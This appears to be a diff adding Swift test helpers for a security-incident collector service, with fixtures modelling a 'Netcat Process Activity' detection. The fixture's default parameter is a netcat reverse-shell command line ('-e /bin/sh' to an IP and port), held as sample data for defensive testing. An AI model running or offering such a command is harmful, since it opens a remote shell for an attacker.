@@ -1,0 +1,259 @@
+import CollectorStorage
+import CompressNIO
+import ExecEvents
+import Hummingbird
+import HummingbirdTesting
+import Logging
+import NIOCore
+import RuleEngine
+import Testing
+
+@testable import Collector
+
+#if canImport(Glibc)
+import Glibc
+#endif
+
+/// A directory under /tmp for one test; removed with everything in it when released.
+final class TemporaryDirectory: Sendable {
+    let path: String
+
+    init() throws {
+        var template = Array("/tmp/execwatch-collector-XXXXXX".utf8CString)
+        guard let made = mkdtemp(&template) else { throw TestFailure("mkdtemp failed") }
+        path = String(cString: made)
+    }
+
+    /// Writes a file and returns its path.
+    @discardableResult
+    func write(_ name: String, _ text: String) throws -> String {
+        let file = path + "/" + name
+        let fd = open(file, O_WRONLY | O_CREAT | O_TRUNC, 0o600)
+        guard fd >= 0 else { throw TestFailure("cannot create \(file)") }
+        defer { close(fd) }
+        let bytes = Array(text.utf8)
+        let written = bytes.withUnsafeBytes { Glibc.write(fd, $0.baseAddress, $0.count) }
+        guard written == bytes.count else { throw TestFailure("short write to \(file)") }
+        return file
+    }
+
+    deinit {
+        Self.remove(path)
+    }
+
+    private static func remove(_ path: String) {
+        if let directory = opendir(path) {
+            while let entry = readdir(directory) {
+                let name = withUnsafeBytes(of: entry.pointee.d_name) { raw in
+                    String(decoding: raw.prefix { $0 != 0 }, as: UTF8.self)
+                }
+                if name == "." || name == ".." { continue }
+                let child = path + "/" + name
+                if unlink(child) != 0 { remove(child) }
+            }
+            closedir(directory)
+        }
+        rmdir(path)
+    }
+}
+
+struct TestFailure: Error, CustomStringConvertible {
+    var description: String
+    init(_ description: String) { self.description = description }
+}
+
+/// Incidents and request bodies for tests.
+enum Fixtures {
+    static let ruleId = "PH_Rule_TH_Linux_23"
+    static let baseTime = EventTime(rfc3339: "2026-11-28T10:00:00.123Z")!
+
+    static func incident(
+        host: String = "web-1",
+        ruleId: String = Fixtures.ruleId,
+        user: String = "alice",
+        swParam: String = "-e /bin/sh 10.0.0.1 4444",
+        version: Int64 = 1,
+        count: Int64 = 1,
+        lastSeen: EventTime = Fixtures.baseTime
+    ) -> Incident {
+        let attributes = [
+            IncidentAttribute(name: "hostName", value: .string(host)),
+            IncidentAttribute(name: "user", value: .string(user)),
+            IncidentAttribute(name: "procName", value: .string("nc")),
+            IncidentAttribute(name: "swParam", value: .string(swParam)),
+        ]
+        let event = ExecEvent(
+            eventTime: lastSeen,
+            hostName: host,
+            user: user,
+            procName: "nc",
+            swParam: swParam,
+            procId: 4242,
+            exePath: "/usr/bin/nc.openbsd",
+            args: [Array("nc".utf8)] + swParam.split(separator: " ").map { Array($0.utf8) }
+        )
+        return Incident(
+            incidentId: IncidentID(
+                ruleId: ruleId,
+                hostName: host,
+                groupValues: [("user", .string(user)), ("swParam", .string(swParam))]
+            ),
+            ruleId: ruleId,
+            ruleName: "Linux: Netcat Process Activity",
+            incidentType: "PH_RULE_TH_LINUX_23",
+            severity: 7,
+            category: "Security",
+            tactics: ["Execution"],
+            techniques: ["T1059.004"],
+            hostName: host,
+            attributes: attributes,
+            count: count,
+            firstSeen: baseTime,
+            lastSeen: lastSeen,
+            version: version,
+            agentId: "agent-\(host)",
+            triggerEvents: [event]
+        )
+    }
+
+    /// The JSON array an agent sends.
+    static func jsonArray(_ incidents: [Incident]) -> String {
+        "[" + incidents.map(\.jsonLine).joined(separator: ",") + "]"
+    }
+
+    static func gzip(_ bytes: [UInt8]) throws -> ByteBuffer {
+        var buffer = ByteBuffer(bytes: bytes)
+        return try buffer.compress(with: .gzip())
+    }
+
+    /// One incident JSON object with `edit` applied to its members.
+    static func incidentObject(_ edit: (inout [(String, JSONValue)]) -> Void) throws -> String {
+        guard case .object(var members) = try JSONValue.parse(incident().jsonLine) else {
+            throw TestFailure("not an object")
+        }
+        edit(&members)
+        var json = JSONWriter()
+        write(.object(members), to: &json)
+        return String(decoding: json.bytes, as: UTF8.self)
+    }
+
+    static func write(_ value: JSONValue, to json: inout JSONWriter) {
+        switch value {
+        case .null: json.null()
+        case .bool(let flag): json.bool(flag)
+        case .integer(let number): json.integer(number)
+        case .number(let number): json.raw(Array(String(number).utf8))
+        case .string(let text): json.string(text)
+        case .array(let elements):
+            json.beginArray()
+            for element in elements { write(element, to: &json) }
+            json.endArray()
+        case .object(let members):
+            json.beginObject()
+            for (key, member) in members {
+                json.key(key)
+                write(member, to: &json)
+            }
+            json.endObject()
+        }
+    }
+}
+
+/// A collector over a fresh SQLite store (through `CollectorStores.open`) in a temporary
+/// directory, with one agent `web-1` and its token.
+struct TestCollector: Sendable {
+    static let agentName = "web-1"
+
+    let directory: TemporaryDirectory
+    let configuration: CollectorConfiguration
+    let store: any CollectorStore
+    let metrics: CollectorMetrics
+    let token: String
+
+    static func make(_ configure: (inout CollectorConfiguration) -> Void = { _ in }) async throws -> TestCollector {
+        let directory = try TemporaryDirectory()
+        var configuration = CollectorConfiguration()
+        configuration.stateDirectory = directory.path
+        configure(&configuration)
+        var logger = Logger(label: "collector-tests")
+        logger.logLevel = .critical
+        let store = try await CollectorStores.open(url: "", stateDirectory: directory.path, logger: logger)
+        let token = AgentToken.generate()
+        try await store.addAgent(
+            AgentCredential(name: agentName, tokenHash: AgentToken.hash(token), createdAt: .now)
+        )
+        return TestCollector(
+            directory: directory,
+            configuration: configuration,
+            store: store,
+            metrics: CollectorMetrics(),
+            token: token
+        )
+    }
+
+    /// Runs `body` against the application (no socket), then closes the store.
+    func test<Value: Sendable>(
+        _ body: @Sendable (any TestClientProtocol) async throws -> Value
+    ) async throws -> Value {
+        var logger = Logger(label: "collector-tests")
+        logger.logLevel = .critical
+        let server = CollectorServer(configuration: configuration, store: store, metrics: metrics, logger: logger)
+        let application = try server.makeApplication()
+        do {
+            let value = try await application.test(.router, body)
+            try await store.close()
+            return value
+        } catch {
+            try? await store.close()
+            throw error
+        }
+    }
+
+    var bearer: HTTPFields { [.authorization: "Bearer \(token)"] }
+
+    /// Headers of an ingest request: JSON, the agent's token, and `extra`.
+    func ingestHeaders(_ extra: HTTPFields = [:]) -> HTTPFields {
+        var headers: HTTPFields = [.contentType: "application/json", .authorization: "Bearer \(token)"]
+        headers.append(contentsOf: extra)
+        return headers
+    }
+}
+
+extension TestClientProtocol {
+    /// POSTs `body` to the ingest endpoint.
+    func ingest(_ body: String, headers: HTTPFields) async throws -> TestResponse {
+        try await execute(uri: "/api/v1/incidents", method: .post, headers: headers, body: ByteBuffer(string: body))
+    }
+}
+
+extension TestResponse {
+    var text: String { String(buffer: body) }
+
+    /// The body as JSON.
+    var json: JSONValue {
+        get throws { try JSONValue.parse(text) }
+    }
+
+    /// `error` of a `{"error":"…"}` reply.
+    var errorReason: String? {
+        guard case .string(let reason) = try? json["error"] else { return nil }
+        return reason
+    }
+}
+
+extension JSONValue {
+    var integerValue: Int64? {
+        if case .integer(let number) = self { return number }
+        return nil
+    }
+
+    var stringValue: String? {
+        if case .string(let text) = self { return text }
+        return nil
+    }
+
+    var arrayValue: [JSONValue]? {
+        if case .array(let elements) = self { return elements }
+        return nil
+    }
+}
